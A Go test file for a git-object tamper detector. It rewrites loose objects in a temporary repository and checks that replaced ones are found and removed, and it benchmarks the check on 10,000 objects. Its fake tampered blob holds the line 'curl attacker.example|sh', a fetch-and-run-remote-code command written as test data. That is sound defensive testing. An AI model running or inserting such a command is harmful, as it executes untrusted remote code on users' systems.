package trust

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func gitOut(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestLooseObjectReplaced: an object unlinked and written again under its
// name with another content is found and removed, and so is one made
// writable and written again in place (its fan-out directory's ctime does
// not move: review 15 C5); one written again with its own content, and one
// added since, are left.
func TestLooseObjectReplaced(t *testing.T) {
	top := t.TempDir()
	gitOut(t, top, "init", "-q")
	for name, body := range map[string]string{"build.sh": "echo build\n", "keep.txt": "kept\n"} {
		if err := os.WriteFile(filepath.Join(top, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	gitOut(t, top, "add", ".")
	gitOut(t, top, "-c", "user.email=a@b", "-c", "user.name=a", "commit", "-qm", "i")
	obj := func(rev string) string {
		h := gitOut(t, top, "rev-parse", rev)
		return filepath.Join(top, ".git", "objects", h[:2], h[2:])
	}
	build, keep, tree := obj("HEAD:build.sh"), obj("HEAD:keep.txt"), obj("HEAD^{tree}")
	l := SnapshotLooseObjects(filepath.Join(top, ".git"))
	// The child's rewrite: another content under build.sh's blob's name.
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	w.Write([]byte("blob 36\x00echo build\ncurl attacker.example|sh\n"))
	w.Close()
	rewrite := func(p string, data []byte) {
		if err := os.Remove(p); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o444); err != nil {
			t.Fatal(err)
		}
	}
	rewrite(build, z.Bytes())
	if err := os.Chmod(tree, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tree, z.Bytes(), 0o444); err != nil { // in place: same inode
		t.Fatal(err)
	}
	same, err := os.ReadFile(keep)
	if err != nil {
		t.Fatal(err)
	}
	rewrite(keep, same)
	if err := os.WriteFile(filepath.Join(top, "new.txt"), []byte("new\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitOut(t, top, "hash-object", "-w", "new.txt")
	var want []string
	for _, p := range []string{build, tree} {
		rel, _ := filepath.Rel(filepath.Join(top, ".git"), p)
		want = append(want, filepath.ToSlash(rel))
	}
	slices.Sort(want)
	if got := l.Replaced(); !slices.Equal(got, want) {
		t.Fatalf("Replaced = %v, want %v", got, want)
	}
	if _, err := os.Lstat(build); err == nil {
		t.Error("the replaced object is still there")
	}
	if _, err := os.Lstat(keep); err != nil {
		t.Error("an object rewritten with its own content was removed")
	}
}

// BenchmarkLooseObjects: the stamp before an in-place writer and the check
// after it, on a repository with 10000 loose objects none of which changed.
func BenchmarkLooseObjects(b *testing.B) {
	common := b.TempDir()
	for i := range 10000 {
		d := filepath.Join(common, "objects", string("0123456789abcdef"[i%16])+string("0123456789abcdef"[(i/16)%16]))
		if err := os.MkdirAll(d, 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(d, strings.Repeat("0", 30)+string(rune('a'+i%26))+string(rune('a'+(i/26)%26))+string(rune('a'+(i/676)%26))+string(rune('a'+(i/17576)%26))), nil, 0o444); err != nil {
			b.Fatal(err)
		}
	}
	b.ResetTimer()
	for b.Loop() {
		l := SnapshotLooseObjects(common)
		l.since = time.Now().Add(time.Second) // objects made before the spawn
		if r := l.Replaced(); len(r) > 0 {
			b.Fatal(r)
		}
	}
}

// BenchmarkNestedLooseObjects: BenchmarkLooseObjects with the 10,000
// objects in a nested repository's .git (WithNested) and an outer one
// with none.
func BenchmarkNestedLooseObjects(b *testing.B) {
	top := b.TempDir()
	objects := filepath.Join(top, "vendor", "lib", ".git", "objects")
	for i := range 10000 {
		d := filepath.Join(objects, string("0123456789abcdef"[i%16])+string("0123456789abcdef"[(i/16)%16]))
		if err := os.MkdirAll(d, 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(d, fmt.Sprintf("%038d", i)), nil, 0o444); err != nil {
			b.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(top, ".git", "objects"), 0o755); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for b.Loop() {
		l := SnapshotLooseObjects(filepath.Join(top, ".git")).WithNested(top, []string{"vendor/lib/.git"})
		if len(l.nested) != 1 || len(l.nested[0].names) != 256 {
			b.Fatalf("nested stores %d", len(l.nested))
		}
		l.nested[0].since = time.Now().Add(time.Second) // objects made before the spawn
		if r := l.Replaced(); len(r) > 0 {
			b.Fatal(r)
		}
	}
}
